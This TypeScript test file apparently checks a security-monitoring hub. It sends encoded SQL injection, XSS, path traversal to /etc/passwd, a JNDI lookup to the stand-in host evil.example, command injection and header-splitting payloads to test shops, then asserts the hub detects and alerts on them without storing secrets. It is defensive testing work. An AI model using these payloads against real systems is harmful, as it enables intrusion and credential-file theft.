// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is what such payloads look like.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Alert, SecurityIncident, SecurityPosture } from '@orrery/protocol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type Attacked,
  FRAMEWORKS,
  RIGHT,
  rawRequest,
  startAttacked,
} from '../../packages/sdk/test/attacks/products.ts';
import { createApi, type RunningHub, startHub } from '../services/hub.ts';
import { addPerson, makeKey, PASSWORD } from '../services/people.ts';
import { until } from '../services/until.ts';

const KEY = 'key-of-every-shop-0123456789';
const yaml = `
projects:
${FRAMEWORKS.map((name) => `  - { slug: shop-${name}, name: ${name}, hubUrl: "http://127.0.0.1:1", apiKey: "${KEY}-${name}" }`).join('\n')}
network: { allowPrivate: true }
`;
/** What nobody may find again: values of passwords, tokens and payloads as they were sent. */
const CANARY = 'Canary7f3a9c2e51d84bd6a0';

let hub: RunningHub;
const products = new Map<string, Attacked>();
beforeAll(async () => {
  hub = await startHub({ yaml });
  for (const name of FRAMEWORKS) products.set(name, await startAttacked(name, { url: hub.url, key: `${KEY}-${name}` }));
});
afterAll(async () => {
  for (const product of products.values()) await product.stop();
  await hub.dispose();
});

const incidents = async (project: string) =>
  (await hub.api.get<{ items: SecurityIncident[] }>(`/api/security?project=${project}&limit=200`)).body.items;
const alerts = async (project: string) =>
  (await hub.api.get<{ items: Alert[] }>(`/api/fed/alerts?project=${project}&limit=100`)).body.items;
const seen = (project: string, family: string, rule?: string) =>
  until(
    async () =>
      (await incidents(project)).find((one) => one.family === family && (rule === undefined || one.rule === rule)),
    { what: `${family} ${rule ?? ''} of ${project}` },
  );
const alerted = (project: string, severity: string, words: string) =>
  until(
    async () =>
      (await alerts(project)).find(
        (one) => one.category === 'security' && one.severity === severity && one.title.includes(words),
      ),
    { what: `an alert "${words}" of ${project}`, timeoutMs: 20_000 },
  );

describe.each(FRAMEWORKS)('a product on %s', (name) => {
  const product = () => products.get(name) as Attacked;
  const slug = `shop-${name}`;

  it('has attacks in odd encodings on its wire, and they are alerts of the hub, told by family, route and place', async () => {
    const { url } = product();
    await rawRequest(url, '/search?q=%2527%2520oR%25201%253D1--%20');
    await rawRequest(url, '/search?q=<ScRiPt>alert(1)</sCrIpT>');
    await rawRequest(url, '/files/..%c0%af..%c0%afetc/passwd');
    await rawRequest(url, '/static/../../../etc/passwd');
    await rawRequest(url, '/search?q=x', { headers: ['user-agent: ${${lower:j}ndi:ldap://evil.example/a}'] });
    await rawRequest(url, '/search', { headers: ["cookie: theme=dark' AND SLEEP(5)#"] });
    await rawRequest(url, '/search?q=%00');
    await rawRequest(url, '/search?q=a%0d%0aSet-Cookie:%20a=1');
    await rawRequest(url, '/search?host=127.0.0.1;cat%20/etc/passwd');
    await rawRequest(url, '/search?q={{7*7}}');
    const sql = await seen(slug, 'sql-injection', 'tautology');
    expect(sql).toMatchObject({
      route: 'GET /search',
      shape: 'GET /search?q=‹sql-injection:tautology›',
      actor: expect.stringMatching(/^[0-9a-f]{16}$/),
      state: 'active',
      passed: 1,
    });
    for (const family of [
      'xss',
      'path-traversal',
      'lookup',
      'nul-byte',
      'header-split',
      'command-injection',
      'template',
    ])
      await seen(slug, family);
    expect((await seen(slug, 'sql-injection', 'function')).shape).toBe('GET /search cookie ‹sql-injection:function›');
    const alert = await alerted(slug, 'warning', 'SQL injection');
    expect(alert.description).toContain('GET /search?q=‹sql-injection:tautology›');
    expect((await hub.api.get<SecurityIncident>(`/api/security/${sql.id}`)).body).toMatchObject({ id: sql.id });
  });

  it('has somebody guess passwords and come in: critical, with nothing of what was typed', async () => {
    const { url } = product();
    const login = (password: string) =>
      rawRequest(url, '/login', {
        method: 'POST',
        headers: [
          'content-type: application/json',
          `authorization: Bearer ${CANARY}-bearer`,
          `cookie: session=${CANARY}-session`,
        ],
        body: JSON.stringify({ user: 'ann', password }),
      });
    for (let n = 0; n < 15; n++) expect(await login(`${CANARY}-password-${n}`)).toBe(401);
    await seen(slug, 'brute-force', 'guessing');
    await alerted(slug, 'warning', 'guessing of credentials');
    expect(await login(RIGHT)).toBe(200);
    await seen(slug, 'brute-force', 'succeeded');
    const alert = await alerted(slug, 'critical', 'succeeded after many failures');
    expect(alert).toMatchObject({ category: 'security', status: 'open' });
  });

  it('has a field of a JSON body attacked, and answers as if nobody looked', async () => {
    const { url } = product();
    const body = JSON.stringify({ user: `${CANARY}' OR '1'='1`, password: `${CANARY}-pw` });
    expect(await rawRequest(url, '/login', { method: 'POST', headers: ['content-type: application/json'], body })).toBe(
      401,
    );
    const sql = await until(
      async () =>
        (await incidents(slug)).find(({ route, family }) => route === 'POST /login' && family === 'sql-injection'),
      { what: 'the attack in the body' },
    );
    expect(sql).toMatchObject({ shape: 'POST /login body user ‹sql-injection:tautology›', refused: 1 });
  });

  it('has a client that asks too often', async () => {
    const { url } = product();
    for (let n = 0; n < 12; n++) await rawRequest(url, '/limited');
    expect(await seen(slug, 'rate-limit', 'exceeded')).toMatchObject({ route: 'GET /limited' });
  });

  it('has bursts, which are critical, and one alert each', async () => {
    const { url } = product();
    for (let n = 0; n < 110; n += 10)
      await Promise.all(
        Array.from({ length: 10 }, () => rawRequest(url, `/search?token=${CANARY}&q=%3Csvg/onload=alert(${n})%3E`)),
      );
    await alerted(slug, 'critical', 'cross-site scripting');
    expect(
      (await alerts(slug)).filter(({ title, status }) => title.includes('scripting') && status === 'open'),
    ).toHaveLength(1);
  });
});

it("finds who guesses at the sign-in of the hub itself, and the alert is the hub's", async () => {
  await addPerson(hub, { email: 'ann@example.com', name: 'Ann', role: 'admin' });
  const anybody = createApi(hub.url);
  for (let n = 0; n < 16; n++)
    await anybody.post('/api/auth/sign-in/email', { email: 'ann@example.com', password: `${CANARY}-hub-${n}` });
  expect(await seen('orrery', 'brute-force', 'guessing')).toMatchObject({ route: 'POST /api/auth/sign-in/email' });
  await alerted('orrery', 'warning', 'guessing of credentials');
  expect(PASSWORD).not.toContain(CANARY);
});

it('shows a caller the projects that exist for it, and no others', async () => {
  const limited = createApi(hub.url, { 'x-api-key': await makeKey(hub, 'operator', { projects: ['shop-hono'] }) });
  const { items } = (await limited.get<{ items: SecurityIncident[] }>('/api/security?limit=200')).body;
  expect(new Set(items.map(({ project }) => project))).toEqual(new Set(['shop-hono']));
  const foreign = (await incidents('shop-express'))[0];
  expect((await limited.get(`/api/security/${foreign?.id}`)).status).toBe(404);
  expect((await limited.get('/api/security?project=shop-express')).status).toBe(404);
  const posture = (await limited.get<{ items: SecurityPosture[] }>('/api/security/posture')).body.items;
  expect(posture).toMatchObject([{ project: 'shop-hono', inspected: true, activeIncidents: expect.any(Number) }]);
});

it('pages through incidents without a gap or a repetition', async () => {
  const all = await incidents('shop-express');
  const paged: string[] = [];
  let cursor: string | undefined;
  do {
    const page = (
      await hub.api.get<{ items: SecurityIncident[]; nextCursor?: string }>(
        `/api/security?project=shop-express&limit=3${cursor === undefined ? '' : `&cursor=${cursor}`}`,
      )
    ).body;
    paged.push(...page.items.map(({ id }) => id));
    cursor = page.nextCursor;
  } while (cursor !== undefined);
  expect(paged.toSorted()).toEqual(all.map(({ id }) => id).toSorted());
});

it('refuses a report with room for a payload', async () => {
  const report = {
    sightings: [
      {
        ...{
          family: 'xss',
          rule: 'script',
          route: 'GET /',
          actor: 'unknown',
          count: 1,
          passed: 1,
          refused: 0,
          failed: 0,
        },
        ...{ place: `query ${CANARY}`, firstAt: new Date().toISOString(), lastAt: new Date().toISOString() },
      },
    ],
  };
  const send = (data: unknown) =>
    fetch(`${hub.url}/api/fed/events`, {
      method: 'POST',
      headers: { 'content-type': 'application/cloudevents+json', 'x-api-key': `${KEY}-express` },
      body: JSON.stringify({
        specversion: '1.0',
        id: crypto.randomUUID(),
        source: 'x',
        type: 'shop-express.mesh.events.security.attack',
        data,
      }),
    }).then((answer) => answer.json());
  expect(await send(report)).toMatchObject({ status: 400, fields: [{ field: 'body.data.sightings.0.place' }] });
  const [first] = report.sightings;
  expect(await send({ sightings: [{ ...first, place: 'path', payload: CANARY }], note: CANARY })).toMatchObject({
    accepted: 1,
  });
});

it('has kept no password, token, address or payload anywhere', async () => {
  await until(
    async () => (await hub.api.get<{ items: unknown[] }>('/ops/events/recent?limit=50')).body.items.length > 0,
    {
      what: 'events',
    },
  );
  const answers = await Promise.all(
    [
      '/api/security?limit=200',
      '/api/security/posture',
      '/ops/events/recent?limit=200',
      '/api/fed/alerts?limit=200',
    ].map(async (path) => (await hub.api.get(path)).text),
  );
  const files = readdirSync(hub.dataDir)
    .filter((name) => name.startsWith('orrery.db'))
    .map((name) => readFileSync(join(hub.dataDir, name), 'latin1'));
  for (const text of [...answers, ...files, hub.stderr()]) {
    expect(text).not.toContain(CANARY);
    expect(text).not.toContain('/etc/passwd');
    expect(text).not.toContain('evil.example');
    expect(text).not.toContain('onload=alert');
  }
  for (const text of answers.slice(0, 2)) expect(text).not.toContain('127.0.0.1');
});
